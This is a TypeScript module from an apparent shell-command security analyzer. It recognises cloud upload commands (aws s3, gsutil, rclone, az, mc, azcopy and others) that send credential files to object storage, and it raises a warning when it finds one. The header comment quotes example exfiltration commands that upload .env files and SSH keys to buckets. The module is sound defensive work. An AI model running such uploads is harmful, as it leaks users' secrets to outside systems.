// Credential files uploaded to object storage: `aws s3 cp .env s3://b/x`,
// `gsutil cp ~/.ssh/id_rsa gs://b`, `rclone copy ~/.ssh remote:loot`,
// `az storage blob upload -f .env …`. A bucket is another system's hands and
// logs, often shared or public by mistake; a build folder or a report is what
// these tools are for and stays quiet, as does a download into the project.
import { optionValue, optionValues, positionals } from '../../command/args';
import { isLocalHostUrl } from '../common/urls';
import type { AnalysisContext, Finding, SimpleCommand } from '../../types';
import { credentialIn, inputRedirects } from '../common/credentials';
import { homeOf, resolveWord } from '../../command/paths';
import { credentialProducer } from './network';
import { folderCredential } from '../common/uploadFolders';
import { finding } from '../common/finding';
import { AWS_GLOBAL_VALUE_OPTIONS, AWS_S3_VALUE_OPTIONS } from '../common/awsOptions';

/** Programs that copy local files to object storage. */
export const UPLOADERS = new Set(['aws', 'gsutil', 'gcloud', 'az', 'rclone', 's3cmd', 'mc', 'mcli', 'azcopy']);

interface Upload {
  /** How the command is spelled in the finding: `aws s3 cp`. */
  verb: string;
  /** Local files or folders sent. */
  sources: string[];
  /** Where they go, for a human. */
  dest: string;
}

const GSUTIL_VALUES = ['-o', '-h', '-u', '-i', '-a', '-j', '-L', '-s', '-x', '-y', '-z'];
const GCLOUD_VALUES = ['--project', '--account', '--configuration', '--verbosity', '--format', '--billing-project'];
const RCLONE_VALUES = [
  '--config',
  '--exclude',
  '--include',
  '--filter',
  '--exclude-from',
  '--include-from',
  '--filter-from',
  '--files-from',
  '--transfers',
  '--checkers',
  '--bwlimit',
  '--log-file',
  '--log-level',
  '--max-age',
  '--min-age',
  '--max-size',
  '--min-size',
  '--backup-dir',
  '--suffix',
  '--max-transfer',
];
const S3CMD_VALUES = [
  '-c',
  '--config',
  '--exclude',
  '--include',
  '--rexclude',
  '--rinclude',
  '--exclude-from',
  '--include-from',
  '--mime-type',
  '--add-header',
  '--storage-class',
  '--region',
  '--bucket-location',
];
const MC_VALUES = [
  '-C',
  '--config-dir',
  '--attr',
  '--storage-class',
  '--encrypt',
  '--encrypt-key',
  '--tags',
  '--exclude',
];
const AZCOPY_VALUES = [
  '--include-pattern',
  '--exclude-pattern',
  '--include-path',
  '--exclude-path',
  '--from-to',
  '--log-level',
  '--cap-mbps',
  '--block-size-mb',
  '--blob-type',
  '--block-blob-tier',
  '--metadata',
  '--content-type',
  '--output-type',
];

const CLOUD_URL_RE = /^(?:s3|gs|s3a|gcs):\/\//i;
/** `remote:path` and `:backend:path`. */
const RCLONE_REMOTE_RE = /^(?::[\w-]+:|[\w.-][\w. -]*:)/;

/** The first non-option words of a command line, skipping the values of `valueOpts`, and where each is in argv. */
function leading(
  argv: readonly string[],
  count: number,
  valueOpts: readonly string[],
): { words: string[]; at: number[] } {
  const words: string[] = [];
  const at: number[] = [];
  for (let i = 1; i < argv.length && words.length < count; i++) {
    const a = argv[i];
    if (a.startsWith('-')) {
      if (valueOpts.includes(a)) i++;
      continue;
    }
    words.push(a);
    at.push(i);
  }
  return { words, at };
}

/** Operands before the last remote one are what is sent; none before it (a download) sends nothing. */
function split(verb: string, pos: readonly string[], remote: (w: string) => boolean): Upload | undefined {
  let d = pos.length - 1;
  while (d > 0 && !remote(pos[d])) d--;
  if (d <= 0) return undefined;
  const sources = pos.slice(0, d).filter((w) => !remote(w));
  return sources.length ? { verb, sources, dest: pos[d] } : undefined;
}

/**
 * The aliases of mc's configuration (`~/.mc/config.json`, or `-C DIR`), or
 * undefined when it cannot be read: then any `name/…` but a local folder may be one.
 */
function mcAliases(name: string, cmd: SimpleCommand, ctx: AnalysisContext): ReadonlySet<string> | undefined {
  const dir = optionValue(cmd.argv, ['-C', '--config-dir']) ?? `${homeOf(cmd.env, ctx)}/.${name}`;
  const file = `${dir.replace(/\/+$/, '')}/config.json`;
  const text = ctx.readFile(file, cmd.cwd);
  // Missing (mc not run yet as this user, or another account's): whatever mc would make of the word is unknown.
  if (text === undefined) return undefined;
  try {
    const conf = JSON.parse(text) as { aliases?: unknown; hosts?: unknown };
    const aliases = conf.aliases ?? conf.hosts;
    return aliases && typeof aliases === 'object' ? new Set(Object.keys(aliases)) : undefined;
  } catch {
    return undefined;
  }
}

/**
 * `mc cp SRC TARGET`: an alias path (`alias/bucket`) has no leading `/`, `.`
 * or `~`, and its first part is an alias mc knows; mc takes any other word for
 * a local path. Without a readable configuration, a word that names an
 * existing local folder is local.
 */
function mcRemote(w: string, aliases: ReadonlySet<string> | undefined, local: (w: string) => boolean): boolean {
  if (/^(?:[/.~]|[A-Za-z]:[\\/])/.test(w) || !w.includes('/')) return false;
  const alias = w.slice(0, w.indexOf('/'));
  return aliases ? aliases.has(alias) : !local(alias);
}

function rcloneRemote(w: string): boolean {
  return RCLONE_REMOTE_RE.test(w) && !/^[A-Za-z]:[\\/]/.test(w) && !/^[a-z]+:\/\//i.test(w);
}

/** What the command uploads and where, when it is an upload this module reads. */
function uploadOf(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Upload | undefined {
  const { argv, env } = cmd;
  switch (name) {
    case 'aws': {
      const { words, at } = leading(argv, 2, AWS_GLOBAL_VALUE_OPTIONS);
      const endpoint = optionValue(argv, ['--endpoint-url']) ?? env.AWS_ENDPOINT_URL;
      // A local emulator (LocalStack, MinIO) is scratch space on this machine.
      if (endpoint !== undefined && isLocalHostUrl(endpoint)) return undefined;
      if (words[0] === 's3' && /^(?:cp|mv|sync)$/.test(words[1] ?? ''))
        return split(`aws s3 ${words[1]}`, positionals(argv, AWS_S3_VALUE_OPTIONS, at[1] + 1), (w) =>
          CLOUD_URL_RE.test(w),
        );
      if (words[0] === 's3api' && words[1] === 'put-object') {
        const body = optionValue(argv, ['--body']);
        const bucket = optionValue(argv, ['--bucket']) ?? 'a bucket';
        return body ? { verb: 'aws s3api put-object', sources: [body], dest: `s3://${bucket}` } : undefined;
      }
      return undefined;
    }
    case 'gsutil': {
      const { words, at } = leading(argv, 1, GSUTIL_VALUES);
      if (!/^(?:cp|mv|rsync)$/.test(words[0] ?? '')) return undefined;
      return split(`gsutil ${words[0]}`, positionals(argv, GSUTIL_VALUES, at[0] + 1), (w) => CLOUD_URL_RE.test(w));
    }
    case 'gcloud': {
      // `gcloud storage cp`, `gcloud alpha storage cp`.
      const { words, at } = leading(argv, 3, GCLOUD_VALUES);
      const s = words[0] === 'storage' ? 0 : words[1] === 'storage' ? 1 : -1;
      const op = words[s + 1] ?? '';
      if (s < 0 || !/^(?:cp|mv|rsync)$/.test(op)) return undefined;
      return split(`gcloud storage ${op}`, positionals(argv, GCLOUD_VALUES, at[s + 1] + 1), (w) =>
        CLOUD_URL_RE.test(w),
      );
    }
    case 'az': {
      // `az storage blob upload -f FILE`, `… upload-batch -s DIR`, `az storage file upload --source FILE`.
      const { words } = leading(argv, 4, []);
      if (words[0] !== 'storage') return undefined;
      const path = words.slice(1).join(' ');
      const opts = /^(?:blob upload-batch|blob sync|file upload-batch|fs file upload|fs directory upload)\b/.test(path)
        ? ['-s', '--source']
        : /^blob upload\b/.test(path)
          ? ['-f', '--file']
          : /^file upload\b/.test(path)
            ? ['--source']
            : undefined;
      if (!opts) return undefined;
      const where = optionValue(argv, ['-c', '--container-name', '--container', '-d', '--destination', '--share-name']);
      const dest = where ? `Azure storage (${where})` : 'Azure storage';
      return { verb: `az storage ${words.slice(1, 3).join(' ')}`, sources: optionValues(argv, opts), dest };
    }
    case 'rclone': {
      const { words, at } = leading(argv, 1, RCLONE_VALUES);
      // `rclone rcat remote:path` uploads what comes on stdin.
      if (words[0] === 'rcat') {
        const [dest] = positionals(argv, RCLONE_VALUES, at[0] + 1);
        return { verb: 'rclone rcat', sources: ['-'], dest: dest ?? 'a remote' };
      }
      if (!/^(?:copy|sync|move|copyto|moveto|bisync)$/.test(words[0] ?? '')) return undefined;
      return split(`rclone ${words[0]}`, positionals(argv, RCLONE_VALUES, at[0] + 1), rcloneRemote);
    }
    case 's3cmd': {
      const { words, at } = leading(argv, 1, S3CMD_VALUES);
      if (!/^(?:put|sync)$/.test(words[0] ?? '')) return undefined;
      return split(`s3cmd ${words[0]}`, positionals(argv, S3CMD_VALUES, at[0] + 1), (w) => CLOUD_URL_RE.test(w));
    }
    case 'mc':
    case 'mcli': {
      const { words, at } = leading(argv, 1, MC_VALUES);
      if (!/^(?:cp|mv|mirror|put)$/.test(words[0] ?? '')) return undefined;
      const aliases = mcAliases(name, cmd, ctx);
      const local = (w: string) => ctx.stat?.(resolveWord(w, cmd.cwd, homeOf(env, ctx)).abs) !== undefined;
      return split(`${name} ${words[0]}`, positionals(argv, MC_VALUES, at[0] + 1), (w) => mcRemote(w, aliases, local));
    }
    case 'azcopy': {
      const { words, at } = leading(argv, 1, AZCOPY_VALUES);
      if (!/^(?:copy|cp|sync)$/.test(words[0] ?? '')) return undefined;
      return split(`azcopy ${words[0]}`, positionals(argv, AZCOPY_VALUES, at[0] + 1), (w) => /^https?:\/\//i.test(w));
    }
  }
  return undefined;
}

/** A credential file or folder (or piped credential output, `-`) uploaded to object storage. */
export function cloudUploadFinding(name: string, cmd: SimpleCommand, ctx: AnalysisContext): Finding | undefined {
  const up = uploadOf(name, cmd, ctx);
  if (!up) return undefined;
  const from = cmd.stdinOrigin ?? cmd.stdinFrom;
  // `-` uploads stdin: a file redirected in (`aws s3 cp - s3://b/x < .env`) is what leaves.
  const sources = up.sources.includes('-') ? [...up.sources, ...inputRedirects(cmd)] : up.sources;
  const what =
    credentialIn(sources, cmd, ctx)?.shown ??
    (up.sources.includes('-') && from && cmd.stdin === undefined ? credentialProducer(from, cmd, ctx) : undefined) ??
    folderCredential(up.verb, up.sources, cmd, ctx);
  if (!what) return undefined;
  return finding(
    'secrets.send-to-network',
    85,
    `${up.verb} uploads ${what} to ${up.dest}, where it leaves this machine for a storage service`,
    what,
    "upload only what the job needs and leave credentials out (--exclude '.env'); keep secrets in a secret manager",
  );
}
